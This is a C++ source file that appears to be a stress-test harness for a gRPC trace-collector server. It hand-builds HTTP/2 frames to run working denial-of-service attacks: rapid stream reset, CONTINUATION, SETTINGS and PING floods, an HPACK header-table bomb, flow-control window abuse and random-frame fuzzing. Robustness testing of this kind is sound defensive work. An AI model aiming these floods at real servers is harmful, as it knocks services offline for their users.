#include "torture/http2_attacks.hpp"

#include "torture/attack_socket.hpp"

#include <string>
#include <string_view>

namespace tracewh::torture {
namespace {

enum FrameType : std::uint8_t {
  kData,
  kHeaders,
  kPriority,
  kReset,
  kSettings,
  kPush,
  kPing,
  kGoAway,
  kWindow,
  kContinuation
};

constexpr std::uint8_t kEndStream = 1;
constexpr std::uint8_t kEndHeaders = 4;

std::string big_endian(std::uint32_t value, int bytes) {
  std::string text;
  while (bytes-- > 0) text += static_cast<char>(value >> (8 * bytes));
  return text;
}

std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream, std::string_view payload) {
  std::string bytes = big_endian(static_cast<std::uint32_t>(payload.size()), 3);
  bytes += static_cast<char>(type);
  bytes += static_cast<char>(flags);
  return bytes.append(big_endian(stream, 4)).append(payload);
}

/// A connection that has sent its preface.
AttackSocket greet(std::uint16_t port, std::string_view settings = {}) {
  AttackSocket socket(port);
  socket.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(kSettings, 0, 0, settings));
  return socket;
}

/// A literal field that the table does not keep, in the coding of HPACK.
std::string field(std::string_view name, std::string_view value) {
  std::string bytes(1, '\0');
  bytes += static_cast<char>(name.size());
  bytes.append(name);
  bytes += static_cast<char>(value.size());
  return bytes.append(value);
}

std::string call_fields() {
  return field(":method", "POST") + field(":scheme", "http") + field(":authority", "localhost") +
         field(":path", "/opentelemetry.proto.collector.trace.v1.TraceService/Export") +
         field("content-type", "application/grpc") + field("te", "trailers");
}

/// Sends frames until the server has had enough, or thousands are sent.
template <typename Make>
void flood(AttackSocket& socket, bench::Random& random, Make make) {
  for (std::int64_t left = random.integer(100, 20'000); left > 0 && socket.send(make()); --left) {
  }
}

}  // namespace

void reset_rapidly(std::uint16_t port, bench::Random& random) {
  AttackSocket socket = greet(port);
  std::uint32_t stream = 1;
  flood(socket, random, [&] {
    const std::string frames =
        frame(kHeaders, kEndHeaders, stream, call_fields()) + frame(kReset, 0, stream, big_endian(8, 4));
    stream += 2;
    socket.take();
    return frames;
  });
}

void flood_continuations(std::uint16_t port, bench::Random& random) {
  AttackSocket socket = greet(port);
  socket.send(frame(kHeaders, 0, 1, call_fields()));
  const std::string more = random.chance(0.5) ? std::string() : field("x-more", std::string(100, 'x'));
  flood(socket, random, [&] { return frame(kContinuation, 0, 1, more); });
}

void flood_settings(std::uint16_t port, bench::Random& random) {
  AttackSocket socket = greet(port);
  flood(socket, random, [&] {
    return frame(kSettings, 0, 0,
                 big_endian(1, 2) + big_endian(static_cast<std::uint32_t>(random.next()), 4));
  });
}

void flood_pings(std::uint16_t port, bench::Random& random) {
  AttackSocket socket = greet(port);
  flood(socket, random, [] { return frame(kPing, 0, 0, "12345678"); });
}

void send_header_bomb(std::uint16_t port, bench::Random& random) {
  AttackSocket socket = greet(port);
  // Kept in the table as entry 62, and named by one byte each time.
  const std::string kept = "\x40\x01x\x7f\xa1\x1e" + std::string(4000, 'a');
  const auto references = static_cast<std::size_t>(random.integer(100, 16'000));
  socket.send(frame(kHeaders, 0, 1, call_fields() + kept));
  socket.send(frame(kContinuation, kEndHeaders, 1, std::string(references, '\xbe')));
  socket.read_to_end(std::chrono::milliseconds(200));
}

void misuse_windows(std::uint16_t port, bench::Random& random) {
  AttackSocket socket = greet(port, big_endian(4, 2) + big_endian(random.chance(0.5) ? 0 : 0x7fffffff, 4));
  for (std::uint32_t stream = 1; stream < 200; stream += 2) {
    socket.send(frame(kHeaders, kEndHeaders, stream, call_fields()) +
                frame(kData, kEndStream, stream, std::string("\0\0\0\0\0", 5)));
    if (random.chance(0.1))
      socket.send(frame(kWindow, 0, random.chance(0.5) ? 0 : stream, big_endian(0x7fffffff, 4)));
  }
  socket.read_to_end(std::chrono::milliseconds(random.integer(0, 500)));
}

void send_any_frames(std::uint16_t port, bench::Random& random) {
  AttackSocket socket = greet(port);
  flood(socket, random, [&] {
    std::string payload;
    for (std::int64_t size = random.integer(0, 40); size > 0; --size)
      payload += static_cast<char>(random.next());
    socket.take();
    return frame(static_cast<std::uint8_t>(random.integer(0, 11)), static_cast<std::uint8_t>(random.next()),
                 static_cast<std::uint32_t>(random.integer(0, 9)), payload);
  });
}

}  // namespace tracewh::torture
